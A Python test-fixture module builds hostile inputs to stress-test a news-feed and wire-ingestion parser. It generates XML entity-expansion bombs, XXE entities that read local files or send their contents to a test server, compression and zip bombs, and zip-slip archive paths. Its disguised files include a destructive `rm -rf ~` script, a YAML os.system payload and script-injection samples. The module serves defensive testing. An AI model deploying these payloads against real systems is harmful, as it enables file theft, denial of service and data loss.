"""Files that want to be too much: entities, depth, width, attributes, archives, disguises.

Each is made by a few lines here and can be made smaller, so that the same file is tried small in
every test run and as large as a delivery may be in `make hostile`.
"""

from __future__ import annotations

import gzip
import io
import json
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import cache
from typing import Any, NamedTuple

MOST = 19_000_000
"""Bytes of the largest: just below pipeline.max_bytes, above which nothing is read at all."""


class Place(NamedTuple):
    """What must not be reached: a file with telling words in it, and a server that counts."""

    file: str
    server: str


class Bomb(NamedTuple):
    """One hostile file."""

    name: str
    make: Callable[[float, Place], bytes]
    """Its bytes at some size, 1.0 being as large as may be."""


RSS = '<rss version="2.0"><channel><title>W</title>{}</channel></rss>'
ITEM = "<item><guid>urn:b:{0}</guid><title>Ferry {0}</title><description>{1}</description></item>"
G2 = (
    '<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="urn:b:1" version="1">{}<itemMeta>'
    '<itemClass qcode="ninat:text"/><provider literal="Corvid"/><pubStatus qcode="stat:usable"/>'
    "</itemMeta><contentMeta><headline>Ferry</headline></contentMeta><contentSet>"
    '<inlineXML contenttype="application/xhtml+xml"><html xmlns="http://www.w3.org/1999/xhtml">'
    "<body><p>The ferry ran.</p>{}</body></html></inlineXML></contentSet></newsItem>"
)
NITF = (
    '<nitf><head><docdata><doc-id id-string="b.1"/></docdata></head><body><body.head><hedline>'
    "<hl1>Ferry</hl1></hedline></body.head><body.content><p>The ferry ran.</p>{}</body.content>"
    "</body></nitf>"
)
NEWSML = (
    '<NewsML Version="1.2"><NewsItem><Identification><NewsIdentifier><ProviderId>b</ProviderId>'
    "<DateId>20220108</DateId><NewsItemId>b1</NewsItemId><RevisionId>1</RevisionId></NewsIdentifier>"
    '</Identification><NewsManagement><NewsItemType FormalName="News"/><Status FormalName="Usable"/>'
    "</NewsManagement><NewsComponent><NewsLines><HeadLine>Ferry</HeadLine></NewsLines><ContentItem>"
    "<DataContent><p>The ferry ran.</p>{}</DataContent></ContentItem></NewsComponent></NewsItem>"
    "</NewsML>"
)
ATOM = (
    '<feed xmlns="http://www.w3.org/2005/Atom"><title>W</title><entry><id>urn:b:1</id><title>Ferry'
    '</title><content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>The ferry ran.</p>{}'
    "</div></content></entry></feed>"
)
FORMS = {"rss": RSS.format(ITEM.format(1, "The ferry ran. {}")), "g2": G2.replace("{}", "", 1),
         "nitf": NITF, "newsml": NEWSML, "atom": ATOM}  # fmt: skip


def _times(text: str, share: float, most: int = MOST) -> str:
    """`text` again and again, up to that share of the most bytes."""
    return text * max(1, int(most * share / len(text.encode())))


def _ninjs(**fields: Any) -> bytes:
    item = {"$standard": {"name": "ninjs", "version": "1.4"}, "uri": "urn:b:1", "type": "text",
            "headline": "Ferry", "body_html": "<p>The ferry ran.</p>"}  # fmt: skip
    return json.dumps(item | fields).encode()


# --------------------------------------------------------------------------------------
# Entities, and whatever else a document may ask to be fetched
# --------------------------------------------------------------------------------------


def _laughs(levels: int, per: int) -> str:
    lines = ['<!ENTITY e0 "ha">']
    lines += [f'<!ENTITY e{n} "{f"&e{n - 1};" * per}">' for n in range(1, levels)]
    return "".join(lines)


def _doctypes(place: Place) -> dict[str, tuple[str, str]]:
    """Name -> the inside of a DOCTYPE and the reference that uses it."""
    far, near = place.server, f"file://{place.file}"
    return {
        "laughs": (f"[{_laughs(12, 12)}]", "&e11;"),
        "quadratic": (f'[<!ENTITY a "{"a" * 90_000}">]', "&a;" * 20_000),
        "itself": ('[<!ENTITY a "&b;"><!ENTITY b "&a;">]', "&a;"),
        "file": (f'[<!ENTITY x SYSTEM "{near}">]', "&x;"),
        "file-public": (f'[<!ENTITY x PUBLIC "-//x" "{near}">]', "&x;"),
        "bare-path": (f'[<!ENTITY x SYSTEM "{place.file}">]', "&x;"),
        "server": (f'[<!ENTITY x SYSTEM "{far}/general">]', "&x;"),
        "parameter": (f'[<!ENTITY % p SYSTEM "{far}/parameter"> %p;]', "&x;"),
        "parameter-chain": (
            f"[<!ENTITY % f SYSTEM '{near}'><!ENTITY % a \"<!ENTITY &#37; s SYSTEM '{far}/?%f;'>\">%a; %s;]",
            "&x;",
        ),
        "subset": (f'SYSTEM "{far}/subset.dtd"', "words"),
        "subset-public": (f'PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "{far}/x.dtd"', "&nbsp;"),
        "subset-file": (f'SYSTEM "{near}"', "words"),
        "notation": (
            f'[<!NOTATION n SYSTEM "{far}/n"><!ENTITY u SYSTEM "{far}/u" NDATA n>]',
            "&u;",
        ),
        "attribute": (f'[<!ATTLIST p title CDATA "{"x" * 9000}">]', "words"),
        "conditional": (f'[<![INCLUDE[<!ENTITY x SYSTEM "{near}">]]>]', "&x;"),
    }


def _entities() -> Iterator[Bomb]:
    for form, text in FORMS.items():
        for name in _doctypes(Place("", "")):

            def make(_size: float, place: Place, text: str = text, name: str = name) -> bytes:
                inside, used = _doctypes(place)[name]
                body = text.replace("{}", f"<p>{used}</p>" if "<p>" in text else used)
                return f"<!DOCTYPE x {inside}>{body}".encode()

            yield Bomb(f"entity-{name}-{form}", make)


_CODECS = {
    "utf-16": "UTF-16", "utf-16-le": "UTF-16LE", "utf-16-be": "UTF-16BE", "utf-32": "UTF-32",
    "utf-32-be": "UTF-32BE", "utf-7": "UTF-7", "cp037": "IBM037", "cp500": "EBCDIC-CP-BE",
    "utf-8-sig": "UTF-8", "iso2022_jp": "ISO-2022-JP", "hz": "HZ-GB-2312", "shift_jis": "Shift_JIS",
    "utf-8": "UTF-16",
}  # fmt: skip


def _encoded() -> Iterator[Bomb]:
    """The file entity in every character set that hides it from eyes that look for ASCII."""
    for codec, label in _CODECS.items():

        def make(_size: float, place: Place, codec: str = codec, label: str = label) -> bytes:
            head = f'<?xml version="1.0" encoding="{label}"?>'
            inside = f'<!DOCTYPE x [<!ENTITY x SYSTEM "file://{place.file}">]>'
            return (head + inside + NITF.replace("{}", "<p>&x;</p>")).encode(codec)

        yield Bomb(f"entity-in-{codec}", make)


def _asking() -> Iterator[Bomb]:
    """What other kinds of document ask for: inclusions, style sheets, schemas, catalogues."""
    asks = {
        "xinclude": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{file}" parse="text"/>',
        "xinclude-server": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{server}/xi"/>',
        "xlink": '<p xmlns:xlink="http://www.w3.org/1999/xlink" xlink:type="simple" xlink:show="embed" '
        'xlink:actuate="onLoad" xlink:href="{server}/xlink">words</p>',
        "schema": '<p xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        'xsi:schemaLocation="urn:x {server}/schema.xsd">words</p>',
        "base": '<p xml:base="{server}/base/"><img src="x.png" alt="words"/></p>',
        "media": '<media media-type="image"><media-reference source="file://{file}"/></media>',
        "picture": '<img src="{server}/picture.png" alt="words"/>',
        "object": '<object data="{server}/object"></object><iframe src="{server}/frame"></iframe>',
    }
    for name, ask in asks.items():
        for form in ("g2", "nitf", "atom"):

            def make(_size: float, place: Place, ask: str = ask, form: str = form) -> bytes:
                return FORMS[form].replace("{}", ask.format(**place._asdict())).encode()

            yield Bomb(f"asks-{name}-{form}", make)
    yield Bomb(
        "asks-stylesheet",
        lambda _, place: (
            f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{place.server}/x.xsl"?>'
            + FORMS["rss"].replace("{}", "")
        ).encode(),
    )
    yield Bomb(
        "asks-catalogue",
        lambda _, place: G2.format(
            f'<catalogRef href="{place.server}/catalogue.xml"/>', ""
        ).encode(),
    )
    yield Bomb(
        "asks-cloud",
        lambda _, place: RSS.format(
            f'<cloud domain="{place.server}" path="/rpc" registerProcedure="x" protocol="http-post"/>'
            f"<image><url>{place.server}/i.png</url></image><link>{place.server}/</link>"
            + ITEM.format(1, "The ferry ran.")
        ).encode(),
    )


# --------------------------------------------------------------------------------------
# Depth, width, length
# --------------------------------------------------------------------------------------


def _shapes() -> Iterator[Bomb]:
    """Markup that is deep, wide or long, as XML and as the HTML inside a feed."""
    wide = {
        "deep": lambda share: _times("<div>", share / 2) + "x",
        "deep-closed": lambda share: _times("<div>", share * 0.45) + _times("</div>", share * 0.54),
        "formatting": lambda share: _times("<b><i><u>", share) + "x",
        "links": lambda share: _times("<a href='/x'>", share) + "x",
        "tables": lambda share: _times("<table><tr><td>", share) + "x",
        "tables-fostered": lambda share: _times("<table>x<b>", share),
        "lists": lambda share: _times("<ul><li>", share) + "x",
        "misnested": lambda share: _times("<b><p><i></b></p></i>", share),
        "paragraphs": lambda share: _times("<p>x</p>", share),
        "breaks": lambda share: _times("<br>", share),
        "pictures": lambda share: _times("<img src='https://corvid.example/a.jpg' alt='x'>", share),
        "half-tags": lambda share: _times("<", share),
        "half-comments": lambda share: _times("<!--", share),
        "half-cdata": lambda share: _times("<![CDATA[", share),
        "half-scripts": lambda share: _times("<script>", share),
        "half-attributes": lambda share: _times("<p title='", share),
        "ampersands": lambda share: _times("&", share),
        "entities": lambda share: _times("&amp;", share),
        "numbers": lambda share: _times("&#x1F600;", share),
        "spaces": lambda share: "x" + _times(" \t\n", share) + "x",
        "nbsp": lambda share: "x" + _times("\xa0", share) + "x",
        "one-word": lambda share: _times("x", share),
        "marks": lambda share: "x" + _times("\u0301", share),
        "newlines": lambda share: _times("\n", share),
        "lines": lambda share: _times(":\n", share),
        "attribute": lambda share: f"<p title='{_times('x', share)}'>x</p>",
        "attributes": lambda share: "<p "
        + " ".join(f"a{n}='x'" for n in range(max(1, int(1_200_000 * share))))
        + ">x</p>",
        "select": lambda share: _times("<select><option>", share),
        "svg": lambda share: _times("<svg><desc><math><mi>", share),
        "embeds": lambda share: _times("<iframe src='https://youtube.com/embed/x'></iframe>", share),
        "styles": lambda share: f"<p style='{_times('display:none;', share)}'>x</p>",
    }  # fmt: skip
    for name, make_html in wide.items():

        def in_rss(size: float, _place: Place, make_html: Any = make_html) -> bytes:
            html = make_html(size)
            return RSS.format(ITEM.format(1, f"<![CDATA[<p>The ferry ran.</p>{html}]]>")).encode()

        def in_json(size: float, _place: Place, make_html: Any = make_html) -> bytes:
            return _ninjs(body_html="<p>The ferry ran.</p>" + make_html(size * 0.7))[:MOST]

        def as_xml(size: float, _place: Place, make_html: Any = make_html) -> bytes:
            return NITF.replace("{}", make_html(size)).encode()

        yield Bomb(f"html-{name}", in_rss)
        yield Bomb(f"json-{name}", in_json)
        yield Bomb(f"xml-{name}", as_xml)


def _xml_shapes() -> Iterator[Bomb]:
    yield Bomb("xml-namespaces", lambda size, _: NITF.replace(
        "{}", "<p " + " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(int(600_000 * size) or 1)) + "/>"
    ).encode())  # fmt: skip
    yield Bomb("xml-one-name", lambda size, _: f"<rss><{_times('x', size)}/></rss>".encode())
    yield Bomb("xml-items", lambda size, _: RSS.format(_times("<item/>", size)).encode())
    yield Bomb("xml-true-items", lambda size, _: RSS.format(
        "".join(ITEM.format(n, "It ran.") for n in range(int(200_000 * size) or 1))
    ).encode())  # fmt: skip
    yield Bomb("xml-comments", lambda size, _: RSS.format(_times("<!-- x -->", size)).encode())
    yield Bomb("xml-instructions", lambda size, _: (_times("<?x y?>", size) + RSS).encode())
    yield Bomb("xml-documents", lambda size, _: _times("<rss></rss>", size).encode())
    yield Bomb("xml-doctype", lambda size, _: (
        "<!DOCTYPE x [" + _times('<!ENTITY a "b">', size) + "]>" + RSS
    ).encode())  # fmt: skip
    yield Bomb(
        "xml-doctype-open", lambda size, _: ("<!DOCTYPE x [" + _times('"<!--', size)).encode()
    )
    yield Bomb("xml-categories", lambda size, _: RSS.format(
        "<item><guid>x</guid><title>Ferry</title>" + _times("<category>Sea</category>", size) + "</item>"
    ).encode())  # fmt: skip
    yield Bomb(
        "xml-bytes", lambda size, _: RSS.encode().replace(b"{}", b"\xff\xc3" * int(MOST * size / 2))
    )
    yield Bomb("xml-torn", lambda size, _: RSS.format(
        "".join(ITEM.format(n, "It ran & ran.") for n in range(int(200_000 * size) or 1))
    ).encode()[:-40])  # fmt: skip
    for form in ("g2", "newsml", "atom"):
        yield Bomb(f"xml-paragraphs-{form}", lambda size, _, form=form: FORMS[form].replace(
            "{}", _times("<p>It ran <em>on</em>.</p>", size)
        ).encode())  # fmt: skip
    yield Bomb("xml-components", lambda size, _: NEWSML.replace(
        "{}", _times("<NewsComponent><NewsLines>", size)
    ).encode())  # fmt: skip


def _json_shapes() -> Iterator[Bomb]:
    yield Bomb("json-nested", lambda size, _: b'{"uri":' + b"[" * int(MOST * size))
    yield Bomb(
        "json-keys", lambda size, _: _ninjs(**{f"k{n}": n for n in range(int(900_000 * size) or 1)})
    )
    yield Bomb(
        "json-one-number",
        lambda size, _: b'{"uri":"urn:b:1","version":' + b"9" * int(MOST * size) + b"}",
    )
    yield Bomb("json-nulls", lambda size, _: _ninjs(keywords=[None] * int(3_000_000 * size)))
    yield Bomb("json-keywords", lambda size, _: _ninjs(keywords=["sea"] * int(2_000_000 * size)))
    yield Bomb(
        "json-words",
        lambda size, _: _ninjs(keywords=[f"sea {n}" for n in range(int(1_300_000 * size))]),
    )
    yield Bomb("json-text-lines", lambda size, _: json.dumps({
        "version": "https://jsonfeed.org/version/1.1",
        "items": [{"id": "1", "title": "Ferry", "content_text": _times(":\n", size * 0.6)}],
    }).encode())  # fmt: skip
    yield Bomb("json-headline", lambda size, _: _ninjs(headline=_times("Ferry runs ", size)))
    yield Bomb("json-associations", lambda size, _: _ninjs(associations={
        f"p{n}": {"uri": f"urn:p:{n}", "type": "picture"} for n in range(int(300_000 * size) or 1)
    }))  # fmt: skip
    yield Bomb(
        "json-items",
        lambda size, _: b"[" + b",".join([_ninjs()] * (int(110_000 * size) or 1)) + b"]",
    )
    yield Bomb(
        "json-broken-items",
        lambda size, _: b"[" + b",".join([_ninjs()[:-1]] * (int(110_000 * size) or 1)),
    )
    yield Bomb("json-feed", lambda size, _: json.dumps({
        "version": "https://jsonfeed.org/version/1.1",
        "items": [{"id": str(n), "content_text": "It ran."} for n in range(int(400_000 * size) or 1)],
    }).encode())  # fmt: skip


# --------------------------------------------------------------------------------------
# Text wires and mail
# --------------------------------------------------------------------------------------


def _texts() -> Iterator[Bomb]:
    frame = (
        "\x01bdt0412 3 pl 120  corvid 0412\r\n\r\nHarbour/\r\n\x02{}\r\n\x03 081000 Jan 22\r\n\x04"
    )
    anpa = "\x16\x16\x01a2001\x1f-----\r\nb a\x11\x13BC-US--Ferry   01-05 0012\r\n\x02\x02BC-US--Ferry,12<\r\n\t   {}<\r\n\x03AP-WF-01-05-26 1509GMT<\r\n\x04"
    said = {
        "line": "The ferry ran ", "lines": "The ferry ran.\n", "blank": "\n", "dashes": "----\n",
        "datelines": "PORT ELLERY, Jan 8 (Corvid) - ", "bylines": "By Mara Quint and ",
        "markers": "UPDATE 2-", "kills": "KILL KILL KILL urn:b:1\n", "initials": "ab/cd/ef\n",
        "brackets": "((((", "quotes": "\"'", "dots": "... ", "commas": "a, b, ", "stops": "A. ",
        "slashes": "a/b", "equals": "=\n", "tabs": "\t1\t2\t3\n", "hashes": "# Notizblock\n",
        "embargoes": "Embargoed until 0001 Friday\n", "carets": "^<", "signs": "--CORVID\nab\n",
        "corrections": "CORRECTION: In para 3 read ", "numbers": "0123456789 ", "hyphens": "a-b-",
        "tables": "Ellery  12  13  14\n", "colons": "Subject: x\n", "urls": "https://x.example/a ",
        "controls": "\x0e\x0f\x11\x13", "takes": "1st Add\n", "wide": "\u4e00\u3002",
    }  # fmt: skip
    for name, unit in said.items():
        yield Bomb(f"text-{name}", lambda size, _, unit=unit: _times(unit, size).encode())
        yield Bomb(
            f"7901-{name}", lambda size, _, unit=unit: frame.format(_times(unit, size)).encode()
        )
        yield Bomb(
            f"anpa-{name}", lambda size, _, unit=unit: anpa.format(_times(unit, size)).encode()
        )
        yield Bomb(f"ninjs-head-{name}", lambda size, _, unit=unit: _ninjs(
            headline=_times(unit, size / 4), slugline=_times(unit, size / 4),
            byline=_times(unit, size / 4), ednote=_times(unit, size / 4),
        )[:MOST])  # fmt: skip
    yield Bomb(
        "7901-messages", lambda size, _: _times(frame.format("Ferry =\r\nIt ran."), size).encode()
    )
    yield Bomb("7901-starts", lambda size, _: _times("\x01\x02", size).encode())
    yield Bomb("anpa-messages", lambda size, _: _times(anpa.format("It ran."), size).encode())
    yield Bomb("anpa-starts", lambda size, _: _times("\x16\x16\x01", size).encode())
    head = "From: wire@corvid.example\nSubject: Ferry\nMIME-Version: 1.0\nDate: Sat, 08 Jan 2022 01:00:00 +0000\n"
    mails = {
        "parts": lambda share: "Content-Type: multipart/mixed; boundary=b\n\n"
        + _times("--b\nContent-Type: text/plain\n\nIt ran.\n", share) + "--b--\n",
        "deep": lambda share: "".join(
            f"Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n" for n in range(int(300_000 * share) or 1)
        ),
        "returns": lambda share: "Content-Type: multipart/mixed; boundary=b\n\n" + _times("\r--b\r\r", share),
        "nest-of-returns": lambda share: "".join(
            f"Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n" for n in range(25)
        ) + "\n" + _times("\r", share),
        "headers": lambda share: _times("X-Ferry: it ran\n", share) + "\nIt ran.\n",
        "folded": lambda share: "X-Ferry: a\n" + _times(" folded\n", share) + "\nIt ran.\n",
        "words": lambda share: "X: " + _times("=?utf-8?q?x?= ", share) + "\n\nIt ran.\n",
        "subject": lambda share: "Subject: " + _times("=?utf-8?q?x?= ", share) + "\n\nIt ran.\n",
        "parameters": lambda share: "Content-Type: text/plain; " + _times("a*0*=x; ", share) + "\n\nIt ran.\n",
        "base64": lambda share: "Content-Transfer-Encoding: base64\n\n" + _times("PHA+PHA+\n", share),
        "quoted": lambda share: "Content-Transfer-Encoding: quoted-printable\n\n" + _times("=3Cp=3E=\n", share),
        "messages": lambda share: _times("Content-Type: message/rfc822\n\n", share),
        "addresses": lambda share: "From: " + _times('(a(b"<', share) + "\n\nIt ran.\n",
        "charset": lambda share: "Content-Type: text/plain; charset=idna\n\n" + _times("xn--a.", share),
    }  # fmt: skip
    for name, make_mail in mails.items():
        yield Bomb(f"mail-{name}", lambda size, _, make=make_mail: (head + make(size)).encode())


# --------------------------------------------------------------------------------------
# Compressed
# --------------------------------------------------------------------------------------


def _zeros(size: float) -> bytes:
    return b" " * int(1_000_000_000 * size)


def _squeezed(level: int, bits: int, body: bytes) -> bytes:
    deflate = zlib.compressobj(level, zlib.DEFLATED, bits)
    return deflate.compress(body) + deflate.flush()


def _gzips() -> Iterator[Bomb]:
    yield Bomb("gzip-bomb", lambda size, _: _squeezed(9, 31, _zeros(size)))
    yield Bomb("zlib-bomb", lambda size, _: _squeezed(9, 15, _zeros(size)))
    yield Bomb("deflate-bomb", lambda size, _: _squeezed(9, -15, b"<rss>" + _zeros(size)))
    yield Bomb(
        "gzip-of-gzip-bomb", lambda size, _: gzip.compress(_squeezed(9, 31, _zeros(size)), mtime=0)
    )
    yield Bomb("gzip-members", lambda size, _: gzip.compress(b" ", mtime=0) * int(900_000 * size))
    yield Bomb("gzip-of-markup", lambda size, _: gzip.compress(
        RSS.format(ITEM.format(1, _times("&lt;b&gt;", size, 49_000_000))).encode(), mtime=0
    ))  # fmt: skip
    yield Bomb("gzip-of-items", lambda size, _: gzip.compress(
        RSS.format("".join(ITEM.format(n, "It ran.") for n in range(int(500_000 * size) or 1))).encode(), mtime=0
    ))  # fmt: skip
    yield Bomb("gzip-torn", lambda size, _: _squeezed(9, 31, _zeros(size))[:-9])
    yield Bomb("gzip-of-wide", lambda size, _: gzip.compress(
        ("<rss>" + "\U0001f600" * int(12_000_000 * size)).encode("utf-32"), mtime=0
    ))  # fmt: skip


# --------------------------------------------------------------------------------------
# Disguises
# --------------------------------------------------------------------------------------


def _disguises() -> Iterator[Bomb]:
    item = ITEM.format(1, "The ferry ran.")
    two = {
        "gif-script": b"GIF89a/*\x00\x00*/=1;alert(1)//" + RSS.format(item).encode(),
        "gif": b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00;",
        "pdf-xml": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>\n" + RSS.format(item).encode(),
        "html-as-rss": b"<!doctype html><html><script>ran=1</script>" + RSS.format(item).encode(),
        "rss-as-html": RSS.format(item).encode() + b"<html><script>ran=1</script></html>",
        "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='ran=1'><script>ran=1</script></svg>",
        "xhtml": b"<html xmlns='http://www.w3.org/1999/xhtml'><body onload='ran=1'/></html>",
        "xslt": b"<xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform' version='1.0'/>",
        "soap": b"<s:Envelope xmlns:s='http://schemas.xmlsoap.org/soap/envelope/'><s:Body/></s:Envelope>",
        "json-rss": b'{"uri":"' + RSS.format(item).encode().replace(b'"', b"'") + b'"}',
        "rss-json": RSS.format(item).encode() + _ninjs(),
        "script": b"#!/bin/sh\nrm -rf ~\n", "elf": b"\x7fELF\x02\x01\x01" + bytes(60),
        "exe": b"MZ\x90\x00" + bytes(200), "sqlite": b"SQLite format 3\x00" + bytes(100),
        "pickle": b"\x80\x04\x95\x0b\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94.",
        "yaml": b"!!python/object/apply:os.system ['id']\n", "toml": b"[site]\nurl='x'\n",
        "zip-rss": _zip({"a.xml": RSS.format(item).encode()}) + RSS.format(item).encode(),
        "rss-zip": RSS.format(item).encode() + _zip({"a.xml": b"x"}),
        "mbox": b"From MAILER Sat Jan  8 02:00:00 2022\nSubject: Ferry\n\nIt ran.\n" * 9,
        "jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + RSS.format(item).encode(),
        "bom-bom": b"\xef\xbb\xbf\xff\xfe\xef\xbb\xbf" + RSS.format(item).encode(),
        "nul-rss": b"\0".join(RSS.format(item).encode()[n : n + 1] for n in range(len(RSS.format(item)))),
    }  # fmt: skip
    for name, body in two.items():
        yield Bomb(f"disguise-{name}", lambda _size, _place, body=body: body)


def _zip(files: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED, **how: Any) -> bytes:
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", method, **how) as made:
        for name, body in files.items():
            made.writestr(name, body)
    return into.getvalue()


BOMBS = tuple(
    bomb
    for group in (_entities, _encoded, _asking, _shapes, _xml_shapes, _json_shapes, _texts, _gzips, _disguises)
    for bomb in group()
)  # fmt: skip
"""Every hostile delivery."""


# --------------------------------------------------------------------------------------
# Archives: what a folder, a mail or a push may hold, before it is a delivery
# --------------------------------------------------------------------------------------

_WIRE = RSS.format(ITEM.format(1, "The ferry ran.")).encode()
PATHS = (
    "../out.xml", "/var/out.xml", "a/../../out.xml", "C:\\out.xml", "..\\out.xml", "\\\\host\\out.xml",
    "//host/out.xml", "a\0b.xml", "a\nb.xml", "c:out.xml", "x" * 600, "a/" * 300 + "x.xml",
)  # fmt: skip
"""Names of files in archives that lead out of any folder, or nowhere."""


def _tar(*members: tuple[tarfile.TarInfo, bytes], **how: Any) -> bytes:
    into = io.BytesIO()
    with tarfile.open(fileobj=into, mode="w", **how) as made:
        for info, body in members:
            info.size = len(body)
            made.addfile(info, io.BytesIO(body))
    return into.getvalue()


def _member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, link
    return info


def _overlapping(copy: bytes, count: int) -> bytes:
    """A zip whose directory names the same compressed bytes `count` times."""
    body = _zip({"a.xml": copy})
    end = body.rindex(b"PK\x05\x06")
    start = int.from_bytes(body[end + 16 : end + 20], "little")
    directory = body[start:end] * count
    tail = bytearray(body[end:])
    tail[8:12] = count.to_bytes(2, "little") * 2
    tail[12:16] = len(directory).to_bytes(4, "little")
    return body[:start] + directory + bytes(tail)


def _encrypted() -> bytes:
    body = bytearray(_zip({"a.xml": _WIRE}))
    body[6] |= 1
    body[body.index(b"PK\x01\x02") + 8] |= 1
    return bytes(body)


@cache
def archives() -> dict[str, tuple[Callable[[], bytes], bool]]:
    """Name -> how an archive is made, and whether its copy may be taken.

    Their names make the list of the tests, which every process of a run makes for itself: to pack
    90 megabytes is for the one that tries them.
    """
    made: dict[str, tuple[Callable[[], bytes], bool]] = {
        "plain.zip": (lambda: _zip({"a.xml": _WIRE}), True),
        "plain.tar": (lambda: _tar((_member("a.xml"), _WIRE)), True),
        "bomb.zip": (lambda: _zip({"a.xml": bytes(90_000_000)}), False),
        "many.zip": (lambda: _zip({f"{n}.xml": b"" for n in range(11_000)}), False),
        "overlapping.zip": (lambda: _overlapping(b" " * 5_000_000, 1000), False),
        "overlapping-twice.zip": (lambda: _overlapping(_WIRE, 2), False),
        "nested.zip": (lambda: _zip({"b.zip": _zip({"a.xml": _WIRE})}), False),
        "nested-deep.zip": (lambda: _zip({"c.gz": gzip.compress(_zip({"a.xml": _WIRE}))}), False),
        "encrypted.zip": (_encrypted, False),
        "torn.zip": (lambda: _zip({"a.xml": _WIRE})[:-30], False),
        "directory.zip": (lambda: b"PK\x05\x06" + b"\xff" * 18, False),
        "bomb.tar.gz": (lambda: gzip.compress(_tar((_member("a.xml"), bytes(90_000_000)))), False),
        "bomb.gz": (lambda: gzip.compress(bytes(90_000_000)), False),
        "pax.tar.gz": (
            lambda: gzip.compress(_tar((_pax("x" * 30_000_000), b""), format=tarfile.PAX_FORMAT)), False
        ),
        "bzip2.zip": (lambda: _zip({"a.xml": _WIRE}, zipfile.ZIP_BZIP2), False),
        "lzma.zip": (lambda: _zip({"a.xml": _WIRE}, zipfile.ZIP_LZMA), False),
        "links.tar": (
            lambda: _tar(
                (_member("a", tarfile.SYMTYPE, "/etc/hostname"), b""),
                (_member("b", tarfile.LNKTYPE, "/etc/hostname"), b""),
                (_member("c", tarfile.CHRTYPE), b""),
                (_member("d", tarfile.FIFOTYPE), b""),
                (_member("e", tarfile.BLKTYPE), b""),
                (_member("a/f.xml"), _WIRE),
            ),
            True,
        ),
    }  # fmt: skip
    for number, path in enumerate(PATHS):
        if "\0" in path:
            continue  # both kinds of archive end a name there
        made[f"path-{number}.zip"] = (lambda path=path: _zip({path: _WIRE}), False)
        made[f"path-{number}.tar"] = (lambda path=path: _tar((_member(path), _WIRE)), False)
    return made


def _pax(value: str) -> tarfile.TarInfo:
    info = _member("a.xml")
    info.pax_headers = {"comment": value}
    return info
